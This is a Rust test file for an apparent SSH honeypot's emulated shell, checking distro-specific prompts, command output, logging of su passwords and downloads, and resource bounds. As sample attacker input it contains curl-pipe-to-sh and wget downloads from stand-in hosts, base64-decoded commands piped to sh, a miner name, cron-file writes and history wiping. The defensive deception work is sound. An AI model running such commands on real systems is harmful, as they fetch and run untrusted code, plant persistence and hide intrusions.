//! The fake shell line by line: input → what a real login shell of the persona prints.

use std::sync::Arc;
use std::time::Duration;

use super::host::tests::settings;
use super::host::{Host, USER_UID};
use super::interp::{Mode, Note, Outcome, Shell};
use super::sysinfo::Login;

/// Wed May  1 12:34:56 UTC 2024.
const NOW: u64 = 1_714_566_896;

fn host(distro: &str) -> Arc<Host> {
    Arc::new(Host::new(settings(distro), std::time::UNIX_EPOCH + Duration::from_secs(NOW)))
}

fn login(host: &Host, user: &str) -> Login {
    Login {
        user: user.into(),
        tty: "pts/0".into(),
        from: "203.0.113.7:51234".parse().unwrap(),
        local: "192.168.1.10:22".parse().unwrap(),
        at: NOW - 30,
        service: "ssh",
        shell_pid: 4242 + host.seed as u32 % 10,
    }
}

fn shell_as(distro: &str, user: &str, mode: Mode) -> Shell {
    let host = host(distro);
    let account = host.account(user).unwrap().clone();
    let login = login(&host, user);
    Shell::new(host, &account, login, mode).with_clock(NOW)
}

fn root(distro: &str) -> Shell {
    shell_as(distro, "root", Mode::Interactive)
}

fn user(distro: &str) -> Shell {
    shell_as(distro, "deploy", Mode::Interactive)
}

/// Everything `line` printed.
fn run(shell: &mut Shell, line: &str) -> String {
    shell.run(line).text()
}

#[test]
fn prompts_follow_the_persona() {
    assert_eq!(root("debian").prompt(), "root@web-01:~# ");
    assert_eq!(user("ubuntu22").prompt(), "deploy@web-01:~$ ");
    assert_eq!(user("rocky9").prompt(), "[deploy@web-01 ~]$ ");
    assert_eq!(root("alpine").prompt(), "web-01:~# ");
    assert_eq!(user("kali").prompt(), "┌──(deploy㉿web-01)-[~]\n└─$ ");
    let mut shell = user("centos7");
    run(&mut shell, "cd /var/log");
    assert_eq!(shell.prompt(), "[deploy@web-01 log]$ ");
    let mut shell = root("debian");
    run(&mut shell, "cd /etc/ssh");
    assert_eq!(shell.prompt(), "root@web-01:/etc/ssh# ");
}

#[test]
fn identity_commands() {
    let mut shell = user("ubuntu22");
    assert_eq!(run(&mut shell, "whoami"), "deploy\n");
    assert_eq!(
        run(&mut shell, "id"),
        format!(
            "uid={USER_UID}(deploy) gid={USER_UID}(deploy) groups={USER_UID}(deploy),4(adm),24(cdrom),27(sudo),30(dip),46(plugdev),110(lxd)\n"
        )
    );
    assert_eq!(run(&mut shell, "id -u"), "1000\n");
    assert_eq!(run(&mut shell, "id -un"), "deploy\n");
    assert_eq!(run(&mut shell, "hostname"), "web-01\n");
    assert_eq!(run(&mut shell, "pwd"), "/home/deploy\n");
    assert_eq!(run(&mut shell, "echo $HOME $USER"), "/home/deploy deploy\n");
    assert_eq!(
        run(&mut root("rocky9"), "id"),
        "uid=0(root) gid=0(root) groups=0(root) context=unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023\n"
    );
    assert_eq!(run(&mut root("debian"), "id"), "uid=0(root) gid=0(root) groups=0(root)\n");
    assert_eq!(run(&mut root("debian"), "hostname -I"), "192.168.1.10 \n");
}

#[test]
fn uname_per_persona() {
    assert_eq!(
        run(&mut root("debian"), "uname -a"),
        "Linux web-01 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01) x86_64 GNU/Linux\n"
    );
    assert_eq!(
        run(&mut root("rocky9"), "uname -a"),
        "Linux web-01 5.14.0-362.24.1.el9_3.0.1.x86_64 #1 SMP PREEMPT_DYNAMIC Thu Apr 4 22:31:43 UTC 2024 x86_64 x86_64 x86_64 GNU/Linux\n"
    );
    assert_eq!(
        run(&mut root("alpine"), "uname -a"),
        "Linux web-01 6.6.28-0-lts #1-Alpine SMP PREEMPT_DYNAMIC Wed, 17 Apr 2024 06:49:10 +0000 x86_64 Linux\n"
    );
    assert_eq!(run(&mut root("ubuntu20"), "uname -r"), "5.4.0-182-generic\n");
    assert_eq!(run(&mut root("debian"), "uname"), "Linux\n");
    assert_eq!(run(&mut root("debian"), "uname -m"), "x86_64\n");
    assert_eq!(run(&mut root("debian"), "uname -snrm"), "Linux web-01 6.1.0-18-amd64 x86_64\n");
    let outcome = root("debian").run("uname -z");
    assert_eq!(
        (outcome.text().as_str(), outcome.status),
        ("uname: invalid option -- 'z'\nTry 'uname --help' for more information.\n", 1)
    );
}

#[test]
fn release_files() {
    let mut shell = user("ubuntu22");
    let os_release = run(&mut shell, "cat /etc/os-release");
    assert!(os_release.starts_with("PRETTY_NAME=\"Ubuntu 22.04.4 LTS\"\n"), "{os_release}");
    assert!(run(&mut root("rocky9"), "cat /etc/redhat-release").starts_with("Rocky Linux release 9.3"));
    let passwd = run(&mut shell, "cat /etc/passwd");
    assert!(passwd.starts_with("root:x:0:0:root:/root:/bin/bash\n"));
    assert!(passwd.contains("\ndeploy:x:1000:1000::/home/deploy:/bin/bash\n"), "{passwd}");
    assert_eq!(run(&mut shell, "cat /etc/shadow"), "cat: /etc/shadow: Permission denied\n");
    assert!(run(&mut root("debian"), "cat /etc/shadow").starts_with("root:$y$"));
    assert_eq!(run(&mut shell, "cat /nope"), "cat: /nope: No such file or directory\n");
    assert_eq!(run(&mut shell, "cat /etc"), "cat: /etc: Is a directory\n");
    assert!(run(&mut shell, "cat /proc/cpuinfo").starts_with("processor\t: 0\n"));
    assert!(run(&mut shell, "cat /proc/version").starts_with("Linux version 5.15.0-105-generic"));
}

#[test]
fn listing_files() {
    let mut shell = root("debian");
    let listing = run(&mut shell, "ls /");
    for name in ["bin", "etc", "home", "root", "tmp", "usr", "var"] {
        assert!(listing.split_whitespace().any(|n| n == name), "{name} in {listing}");
    }
    assert_eq!(run(&mut shell, "ls"), "");
    let long = run(&mut shell, "ls -la");
    assert!(long.starts_with("total "), "{long}");
    assert!(long.contains(" .bashrc\n") && long.contains(" .ssh\n") && long.contains(" ..\n"), "{long}");
    assert!(long.lines().any(|l| l.starts_with("drwx------") && l.ends_with(" .ssh")), "{long}");
    let bin = run(&mut shell, "ls -l /bin/ls");
    assert!(bin.starts_with("-rwxr-xr-x 1 root root "), "{bin}");
    assert_eq!(run(&mut shell, "ls /nope"), "ls: cannot access '/nope': No such file or directory\n");
    let mut user = user("debian");
    assert_eq!(run(&mut user, "ls /root"), "ls: cannot open directory '/root': Permission denied\n");
    assert_eq!(run(&mut user, "ls -a"), ".  ..  .bash_logout  .bashrc  .profile  .ssh\n");
}

#[test]
fn process_and_system_views() {
    let mut shell = user("debian");
    let ps = run(&mut shell, "ps aux");
    assert!(ps.starts_with("USER         PID %CPU %MEM"), "{ps}");
    assert!(ps.contains("sshd: deploy@pts/0") && ps.contains("ps aux"), "{ps}");
    let plain = run(&mut shell, "ps");
    assert!(plain.starts_with("    PID TTY          TIME CMD\n") && plain.contains(" bash\n"), "{plain}");
    assert!(run(&mut shell, "ps -ef").starts_with("UID          PID    PPID  C STIME TTY"));
    assert!(run(&mut shell, "w").contains("deploy   pts/0    203.0.113.7"));
    assert!(run(&mut shell, "uptime").starts_with(" 12:34:56 up "));
    assert!(run(&mut shell, "free -m").lines().nth(1).unwrap().starts_with("Mem:"));
    assert!(run(&mut shell, "df -h").contains(" /\n"));
    assert_eq!(run(&mut shell, "date"), "Wed May  1 12:34:56 UTC 2024\n");
    assert_eq!(run(&mut shell, "date +%s"), format!("{NOW}\n"));
    let nproc = run(&mut shell, "nproc");
    assert_eq!(run(&mut shell, "cat /proc/cpuinfo | grep -c ^processor"), nproc);
}

#[test]
fn network_views_show_the_decky_address() {
    let mut shell = root("debian");
    let ifconfig = run(&mut shell, "ifconfig");
    assert!(ifconfig.contains("inet 192.168.1.10  netmask 255.255.255.0"), "{ifconfig}");
    let ip = run(&mut shell, "ip a");
    assert!(ip.contains("inet 192.168.1.10/24 brd 192.168.1.255 scope global eth0"), "{ip}");
    assert!(run(&mut shell, "ip route").starts_with("default via 192.168.1.1 dev eth0"));
    assert!(run(&mut shell, "netstat -tlnp").contains("0.0.0.0:22"));
}

#[test]
fn downloads_are_noted_and_fail_offline() {
    let mut shell = root("debian");
    let outcome =
        shell.run("cd /tmp && wget http://198.51.100.9/bins.sh -O x; curl -s http://evil.example/y | sh");
    assert_eq!(
        outcome.notes,
        [
            Note::Download { tool: "wget".into(), url: "http://198.51.100.9/bins.sh".into() },
            Note::Download { tool: "curl".into(), url: "http://evil.example/y".into() },
        ]
    );
    let text = outcome.text();
    assert!(text.contains("--2024-05-01 12:34:56--  http://198.51.100.9/bins.sh\nConnecting to 198.51.100.9:80... failed: Connection refused.\n"), "{text}");
    assert!(!text.contains("curl:"), "silent curl: {text}");
    let outcome = shell.run("wget evil.example/a");
    assert_eq!(outcome.status, 4);
    assert!(
        outcome.text().contains("wget: unable to resolve host address ‘evil.example’"),
        "{}",
        outcome.text()
    );
    assert_eq!(
        run(&mut shell, "curl http://evil.example/y"),
        "curl: (6) Could not resolve host: evil.example\n"
    );
    assert_eq!(run(&mut root("alpine"), "wget http://evil.example/a"), "wget: bad address 'evil.example'\n");
    assert_eq!(run(&mut shell, "ping -c 1 8.8.8.8"), "ping: connect: Network is unreachable\n");
}

#[test]
fn unknown_commands_per_shell() {
    let outcome = root("debian").run("xmrig --donate 0");
    assert_eq!((outcome.text().as_str(), outcome.status), ("-bash: xmrig: command not found\n", 127));
    assert_eq!(run(&mut root("ubuntu22"), "xmrig"), "xmrig: command not found\n");
    assert_eq!(run(&mut root("alpine"), "xmrig"), "-ash: xmrig: not found\n");
    assert_eq!(run(&mut root("kali"), "xmrig"), "zsh: command not found: xmrig\n");
    assert_eq!(
        run(&mut shell_as("debian", "root", Mode::Script), "xmrig"),
        "bash: line 1: xmrig: command not found\n"
    );
    assert_eq!(
        run(&mut shell_as("centos7", "root", Mode::Script), "xmrig"),
        "bash: xmrig: command not found\n"
    );
    assert_eq!(run(&mut root("alpine"), "curl http://x/"), "-ash: curl: not found\n");
    assert_eq!(run(&mut root("debian"), "./payload"), "-bash: ./payload: No such file or directory\n");
    assert_eq!(run(&mut root("debian"), "/etc/passwd"), "-bash: /etc/passwd: Permission denied\n");
    assert_eq!(run(&mut root("debian"), "busybox"), "-bash: busybox: command not found\n");
    assert_eq!(run(&mut root("alpine"), "/bin/busybox ECCHI"), "ECCHI: applet not found\n");
    assert_eq!(run(&mut root("alpine"), "busybox echo hi"), "hi\n");
}

#[test]
fn lists_pipes_and_substitution() {
    let mut shell = root("debian");
    assert_eq!(run(&mut shell, "echo a; echo b && echo c || echo d"), "a\nb\nc\n");
    assert_eq!(run(&mut shell, "false || echo fallback"), "fallback\n");
    assert_eq!(run(&mut shell, "false && echo never"), "");
    assert_eq!(run(&mut shell, "echo $?"), "1\n");
    assert_eq!(run(&mut shell, "cat /etc/passwd | grep root | wc -l"), "1\n");
    assert_eq!(run(&mut shell, "echo \"I am $(whoami) on `hostname`\""), "I am root on web-01\n");
    assert!(run(&mut shell, "ls -lh $(which ls)").contains("/usr/bin/ls"));
    assert_eq!(run(&mut shell, "free -m | grep Mem | awk '{print $1}'"), "Mem:\n");
    assert_eq!(run(&mut shell, "echo 'x  y'   z"), "x  y z\n");
    assert_eq!(run(&mut shell, "echo aWQK | base64 -d | sh"), "uid=0(root) gid=0(root) groups=0(root)\n");
    assert_eq!(run(&mut shell, "sh -c 'echo in; whoami'"), "in\nroot\n");
    assert_eq!(
        run(&mut shell, "echo 'unterminated"),
        "-bash: unexpected EOF while looking for matching `''\n"
    );
    assert_eq!(run(&mut shell, "; ls"), "-bash: syntax error near unexpected token `;'\n");
    assert_eq!(run(&mut shell, "for i in 1 2; do echo $i; done"), "");
}

#[test]
fn session_files_are_remembered() {
    let mut shell = user("debian");
    assert_eq!(
        run(&mut shell, "cd /tmp; echo 'echo dropped; id -un' > run.sh; cat run.sh"),
        "echo dropped; id -un\n"
    );
    assert_eq!(run(&mut shell, "echo more >> run.sh; wc -l run.sh"), "2 run.sh\n");
    assert_eq!(
        run(&mut shell, "chmod +x run.sh; ./run.sh"),
        "dropped\ndeploy\n-bash: more: command not found\n"
    );
    assert!(run(&mut shell, "ls /tmp").contains("run.sh"));
    assert_eq!(run(&mut shell, "echo x > /etc/cron.d/evil"), "-bash: /etc/cron.d/evil: Permission denied\n");
    assert_eq!(run(&mut shell, "mkdir .x && cd .x && pwd"), "/tmp/.x\n");
    assert_eq!(
        run(&mut shell, "rm /tmp/run.sh && cat /tmp/run.sh"),
        "cat: /tmp/run.sh: No such file or directory\n"
    );
    assert_eq!(run(&mut shell, "echo hidden >/dev/null 2>&1"), "");
    assert_eq!(run(&mut shell, "cat /nope 2>/dev/null"), "");
    assert_eq!(run(&mut shell, "cat /nope 2>&1 | wc -l"), "1\n");
}

#[test]
fn session_files_are_bounded() {
    let mut shell = root("debian");
    let big = "x".repeat(60_000);
    for i in 0..40 {
        run(&mut shell, &format!("echo {big} > /tmp/f{i}"));
    }
    let total: usize = shell.session_files.values().map(String::len).sum();
    assert!(total <= 128 * 1024, "{total}");
    for i in 0..300 {
        run(&mut shell, &format!("touch /tmp/t{i}"));
    }
    assert!(shell.session_files.len() <= 64);
}

#[test]
fn memory_is_bounded_whatever_is_typed() {
    let mut shell = root("debian");
    for i in 0..2000 {
        run(&mut shell, &format!("V{i}=$(cat /proc/cpuinfo)"));
    }
    let variables: usize = shell.variables.iter().map(|(k, v)| k.len() + v.len()).sum();
    assert!(variables <= 32 * 1024, "{variables}");
    let history: usize = shell.history.iter().map(String::len).sum();
    assert!(history <= 32 * 1024 && shell.history.len() <= 500, "{history}");
    run(&mut shell, "A=$(cat /proc/cpuinfo)");
    let line = format!("echo {}", "$A".repeat(2000));
    assert!(shell.run(&line).text().len() <= super::interp::MAX_OUTPUT);
}

#[test]
fn cd_and_paths() {
    let mut shell = user("debian");
    assert_eq!(run(&mut shell, "cd /nope"), "-bash: cd: /nope: No such file or directory\n");
    assert_eq!(run(&mut shell, "cd /etc/passwd"), "-bash: cd: /etc/passwd: Not a directory\n");
    assert_eq!(run(&mut shell, "cd /root"), "-bash: cd: /root: Permission denied\n");
    assert_eq!(run(&mut shell, "cd /bin; pwd"), "/usr/bin\n");
    assert_eq!(run(&mut shell, "cd ..; cd ../..; pwd"), "/\n");
    assert_eq!(run(&mut shell, "cd -"), "/usr\n");
    assert_eq!(run(&mut shell, "cd; pwd"), "/home/deploy\n");
    assert_eq!(
        run(&mut root("alpine"), "cd /nope"),
        "-ash: cd: can't cd to /nope: No such file or directory\n"
    );
}

#[test]
fn su_asks_for_the_root_password() {
    let mut shell = user("debian");
    let outcome = shell.run("su -");
    assert_eq!(outcome.secret_prompt.as_deref(), Some("Password: "));
    assert!(shell.awaits_secret());
    let outcome = shell.run("wrong");
    assert_eq!(outcome.text(), "\nsu: Authentication failure\n");
    assert_eq!(
        outcome.notes,
        [Note::Su { username: "root".into(), password: b"wrong".to_vec(), success: false }]
    );
    assert!(outcome.delay >= Duration::from_secs(2));
    assert_eq!(shell.account().name, "deploy");
    shell.run("su");
    let outcome = shell.run("toor");
    assert_eq!(
        outcome.notes,
        [Note::Su { username: "root".into(), password: b"toor".to_vec(), success: true }]
    );
    assert_eq!(shell.prompt(), "root@web-01:/home/deploy# ");
    assert_eq!(run(&mut shell, "whoami"), "root\n");
    let outcome = shell.run("exit");
    assert!(!outcome.exit);
    assert_eq!(outcome.text(), "exit\n");
    assert_eq!(run(&mut shell, "whoami"), "deploy\n");
    assert_eq!(
        run(&mut shell_as("debian", "deploy", Mode::Script), "su -c id"),
        "su: must be run from a terminal\n"
    );
}

#[test]
fn sudo_runs_as_root() {
    let mut shell = user("ubuntu22");
    assert_eq!(run(&mut shell, "sudo id -u"), "0\n");
    assert_eq!(run(&mut shell, "whoami"), "deploy\n");
    assert!(run(&mut shell, "sudo -l").contains("NOPASSWD: ALL"));
    assert_eq!(run(&mut shell, "sudo -i"), "");
    assert_eq!(shell.prompt(), "root@web-01:~# ");
    assert_eq!(run(&mut shell, "logout"), "logout\n");
    assert_eq!(shell.prompt(), "deploy@web-01:~$ ");
    assert_eq!(run(&mut root("alpine"), "sudo id"), "-ash: sudo: not found\n");
}

#[test]
fn exit_in_a_subshell_ends_only_the_subshell() {
    let mut shell = root("debian");
    for line in [
        "sh -c 'exit 3'",
        "echo $(exit)",
        "exit | cat",
        "bash -c 'echo a; exit; echo b'",
        "su -c exit deploy",
    ] {
        let outcome = shell.run(line);
        assert!(!outcome.exit, "{line}");
    }
    assert_eq!(run(&mut shell, "sh -c 'echo a; exit 4; echo b'; echo $?"), "a\n4\n");
    assert_eq!(run(&mut shell, "cd /tmp | true; pwd"), "/root\n");
    assert_eq!(run(&mut shell, "whoami"), "root\n");
    let mut user = user("ubuntu22");
    assert_eq!(run(&mut user, "sudo exit"), "sudo: exit: command not found\n");
    assert_eq!(run(&mut user, "sudo cd /root"), "sudo: cd: command not found\n");
    assert_eq!(run(&mut user, "sudo su -c whoami; whoami"), "root\ndeploy\n");
    assert_eq!(user.prompt(), "deploy@web-01:~$ ");
}

#[test]
fn exit_ends_the_login_shell() {
    let mut shell = root("debian");
    let outcome: Outcome = shell.run("exit");
    assert!(outcome.exit);
    assert_eq!(outcome.text(), "logout\n");
    let mut script = shell_as("debian", "root", Mode::Script);
    let outcome = script.run("echo bye; exit 3; echo never");
    assert!(outcome.exit);
    assert_eq!((outcome.text().as_str(), outcome.status), ("bye\n", 3));
}

#[test]
fn history_and_variables() {
    let mut shell = root("debian");
    run(&mut shell, "export HISTFILE=/dev/null");
    run(&mut shell, "A=1");
    assert_eq!(run(&mut shell, "echo $A $HISTFILE ${A}x"), "1 /dev/null 1x\n");
    assert_eq!(
        run(&mut shell, "history"),
        "    1  export HISTFILE=/dev/null\n    2  A=1\n    3  echo $A $HISTFILE ${A}x\n    4  history\n"
    );
    run(&mut shell, "history -c");
    assert_eq!(run(&mut shell, "history"), "    1  history\n");
    assert_eq!(run(&mut shell, "unset A; echo \"[$A]\""), "[]\n");
}

#[test]
fn sleep_waits_a_bounded_time() {
    let mut shell = root("debian");
    assert_eq!(shell.run("sleep 2").delay, Duration::from_secs(2));
    assert_eq!(shell.run("sleep 1; sleep 100000").delay, Duration::from_secs(10));
    assert_eq!(shell.run("sleep nan").delay, Duration::ZERO);
}

#[test]
fn output_is_bounded() {
    let mut shell = root("debian");
    let line =
        "cat /proc/cpuinfo /proc/cpuinfo /proc/cpuinfo /proc/cpuinfo /proc/cpuinfo /proc/cpuinfo ".repeat(40);
    let outcome = shell.run(&line);
    assert!(outcome.text().len() <= super::interp::MAX_OUTPUT);
    let nested = "$(".repeat(100) + &")".repeat(100);
    shell.run(&format!("echo {nested}"));
    let printf = shell.run("printf '%s%s%s%s%s%s%s%s' $(cat /etc/passwd /etc/passwd /etc/passwd)");
    assert!(printf.text().len() <= super::interp::MAX_OUTPUT);
}

#[test]
fn welcome_messages() {
    let debian = root("debian").welcome();
    assert!(debian.starts_with("Linux web-01 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian"), "{debian}");
    assert!(debian.contains("\nLast login: "), "{debian}");
    let ubuntu = root("ubuntu22").welcome();
    assert!(
        ubuntu.starts_with("Welcome to Ubuntu 22.04.4 LTS (GNU/Linux 5.15.0-105-generic x86_64)"),
        "{ubuntu}"
    );
    assert!(ubuntu.contains("IPv4 address for eth0: 192.168.1.10"), "{ubuntu}");
    assert!(root("alpine").welcome().starts_with("Welcome to Alpine!"));
}

#[test]
fn package_managers_fail_offline() {
    assert!(run(&mut user("debian"), "apt-get install nmap").contains("are you root?"));
    assert!(run(&mut root("debian"), "apt-get install nmap").contains("E: Unable to locate package nmap"));
    assert!(run(&mut root("rocky9"), "yum install -y nmap").contains("Failed to download metadata"));
    assert_eq!(run(&mut root("rocky9"), "apt-get update"), "-bash: apt-get: command not found\n");
    assert!(run(&mut root("alpine"), "apk add nmap").contains("nmap (no such package)"));
}

/// Random lines built from the shell's own syntax never panic, never print beyond the
/// bound, and never take long.
#[test]
fn random_input_is_harmless() {
    const PIECES: &[&str] = &[
        "echo",
        "ls",
        "-la",
        "cat",
        "/etc/passwd",
        "/proc/",
        "grep",
        "-E",
        "'a*b|c'",
        "\"$(",
        ")",
        "`",
        "'",
        "\"",
        "|",
        "||",
        "&&",
        ";",
        "&",
        ">",
        ">>",
        "2>&1",
        "<",
        "<<<",
        "$A",
        "${",
        "}",
        "~",
        "..",
        "/",
        "*",
        "\\",
        "cd",
        "su",
        "sudo",
        "-i",
        "exit",
        "wget",
        "http://x/",
        "curl",
        "awk",
        "'{print $1}'",
        "sh",
        "-c",
        "base64",
        "-d",
        "printf",
        "%s%s",
        "A=",
        "export",
        "history",
        "tr",
        "a-z",
        "cut",
        "-d:",
        "-f1",
        "ps",
        "aux",
        "uname",
        "-a",
        "\u{0}",
        "\u{1b}[A",
        "é",
        "\n",
        "$((1+1))",
        "#",
        "for",
        "do",
        "done",
        "busybox",
        "sleep",
        "1",
    ];
    let mut rng = fastrand::Rng::with_seed(7);
    for distro in ["debian", "alpine", "kali", "rocky9"] {
        for mode in [Mode::Interactive, Mode::Script] {
            let mut shell = shell_as(distro, "deploy", mode);
            let started = std::time::Instant::now();
            for _ in 0..1500 {
                let words = rng.usize(0..24);
                let line: Vec<&str> = (0..words).map(|_| PIECES[rng.usize(..PIECES.len())]).collect();
                let separator = if rng.bool() { " " } else { "" };
                let outcome = shell.run(&line.join(separator));
                assert!(outcome.text().len() <= super::interp::MAX_OUTPUT);
                if outcome.exit {
                    shell = shell_as(distro, "deploy", mode);
                }
            }
            assert!(started.elapsed() < Duration::from_secs(20), "{distro}: {:?}", started.elapsed());
        }
    }
}
